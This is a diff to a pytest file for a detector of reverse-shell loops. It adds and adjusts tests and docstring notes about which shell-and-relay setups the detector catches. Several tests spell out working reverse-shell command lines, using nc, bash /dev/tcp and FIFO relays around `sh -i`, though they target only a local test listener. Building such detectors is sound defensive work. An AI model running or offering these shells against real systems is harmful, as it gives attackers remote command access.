@@ -13,11 +13,16 @@ Found and fixed:
   the recorder of its answers was a loop (each holder of an O_RDWR file read and wrote it): a
   file open read-write is a store and joins nothing (pipes.read_ends).
 
+- A shell writing its output to a file its relay follows (`tail -f in | sh -i > out 2>&1 &
+  tail -f out | nc HOST PORT >> in`) was never a candidate: its stdout or stderr may now be a
+  regular file (pipes.shell_streams).
+
 Recognised as they were: SEQPACKET, connected datagram and abstract-name UNIX sockets, two
 hops of UNIX sockets, a connection handed over by SCM_RIGHTS, a log renamed into tail -F's
 place. Left (strict xfail, reasons on each): a loop through a file open O_RDWR by both (the
-price of the database fix), a shell whose stdout is a file or whose streams are a UNIX socket,
-and, as cells, read-and-run loops over several lines and `nc … | sh`."""
+price of the database fix), a shell whose streams are a UNIX socket, a shell between two
+connected processes (the connection closes the loop), and, as cells, read-and-run loops over
+several lines and `nc … | sh`."""
 
 from __future__ import annotations
 
@@ -301,17 +306,53 @@ def test_a_file_renamed_into_the_place_tail_F_follows_is_recognised(listener, tm
                    what="the loop seen once tail -F follows the renamed file")
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "a shell whose stdout and stderr go to a regular file is never a candidate: "
-    "pipes.shell_streams follows pipes and FIFOs on fds 0-2 only (pipe_end without files), "
-    "though read_ends now joins a file's writer to its reader. Suggested fix: "
-    "pipe_end(pid, fd, stdio[fd], files=True) for the outputs in shell_streams"))
 def test_a_shell_writing_a_file_its_relay_follows_is_recognised(listener, tmp_path):  # noqa: F811
     """`tail -f in | sh -i > out 2>&1 & tail -f out | nc HOST PORT >> in`: two logs, no FIFO,
-    no pipe from the shell."""
+    no pipe from the shell. Was missed (this session: a shell's stdout or stderr may be a
+    regular file, pipes.shell_streams)."""
     found, relays = _reverse_shell(
         "touch {d}/in {d}/out; tail -f {d}/in | sh -i > {d}/out 2>&1 & "
         "tail -f {d}/out | nc 127.0.0.1 {port} >> {d}/in; : {f}", listener, tmp_path)
+    assert relays["sh -i"].startswith("nc")
+    assert SHELL_LOOP in found, relays
+
+
+def test_a_relay_forked_by_the_shells_parent_shell_still_counts(listener, tmp_path):  # noqa: F811
+    """The near miss of the driver's forks left out: the pipeline's `{ …; }` segment, a
+    fork of the script's bash (the shell's parent), opens /dev/tcp and writes what it brings
+    into the FIFO cat feeds to sh. A fork of an ancestor shell is a pipeline's segment, no copy
+    of a program driving the shell."""
+    found, relays = _reverse_shell(
+        "cat {f} | sh -i 2>&1 | {{ exec 3<>/dev/tcp/127.0.0.1/{port}; "
+        "while read -r l; do echo \"$l\" >&3; done & "
+        "while read -r l <&3; do echo \"$l\"; done > {f}; }}", listener, tmp_path,
+        holder="bash")
+    assert relays["sh -i"] == "bash"
+    assert SHELL_LOOP in found
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "the connection closes the loop itself: what the shell writes leaves through one "
+    "process's connection and comes back through another's (or another connection's), so "
+    "no pipe, FIFO, file or UNIX socket leads from the shell's output to its input and "
+    "relay_in_loop finds none. Suggested fix: a shell with no script whose stdin is written "
+    "by a connected process and whose output is read by one (not `curl … | sh`, whose output "
+    "goes to the terminal) is served to the network"))
+@pytest.mark.parametrize("line", [
+    pytest.param("exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3 | sh -i 2>&1 | cat >&3; : {f}",
+                 id="one-connection-two-cats"),
+    pytest.param("nc 127.0.0.1 {port} | sh -i 2>&1 | nc 127.0.0.1 {port}; : {f}",
+                 id="two-connections"),
+])
+def test_a_shell_between_two_connected_processes_is_recognised(line, listener,  # noqa: F811
+                                                               tmp_path):
+    script = _script(tmp_path, "rev.sh", line.format(port=listener.port, f=tmp_path / "f"))
+    with _group(["bash", str(script)], stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL) as kernel:
+        for _ in range(line.count("{port}")):
+            listener.accept_one()
+        _relay_connected(kernel.pid, holder="")
+        found, relays = _loop_ticks(kernel.pid)
     assert SHELL_LOOP in found, relays
 
 
@@ -391,17 +432,19 @@ def test_a_program_driving_bash_through_pipes_while_its_log_is_uploaded_is_left_
     assert "bash" in relays and relays["bash"] == "" and found == set(), (relays, found)
 
 
+@pytest.mark.parametrize("into_log", ["2>&1 | tee -a {log} > /dev/null", ">> {log} 2>&1"])
 def test_a_command_generator_piped_into_bash_whose_log_is_uploaded_is_left_alone(
-        listener, tmp_path):  # noqa: F811
-    """`python gen.py | bash 2>&1 | tee -a log` beside `tail -f log | uploader >> log` (its
-    own lines appended to the log it follows): a connected process reads and writes the log
-    bash's output reaches, but nothing brings it back to bash's input (the generator's)."""
+        into_log, listener, tmp_path):  # noqa: F811
+    """`python gen.py | bash 2>&1 | tee -a log` (or bash's own `>> log`) beside `tail -f log |
+    uploader >> log` (its own lines appended to the log it follows): a connected process
+    reads and writes the log bash's output reaches, but nothing brings it back to bash's
+    input (the generator's)."""
     gen = _script(tmp_path, "gen.py", "import time\nwhile True:\n"
                   "    print('echo epoch', flush=True)\n    time.sleep(0.2)\n")
     uploader = _script(tmp_path, "upload.py", UPLOADER + "    print('sent', flush=True)\n")
     log = tmp_path / "log"
     log.touch()
-    line = (f"{sys.executable} {gen} | bash 2>&1 | tee -a {log} > /dev/null & "
+    line = (f"{sys.executable} {gen} | bash {into_log.format(log=log)} & "
             f"tail -f {log} | {sys.executable} {uploader} {listener.port} >> {log}; wait")
     found, relays = _honest_tree(line, listener, 1, lambda p: p.cmdline == ["bash"]
                                  and log.stat().st_size > 0)
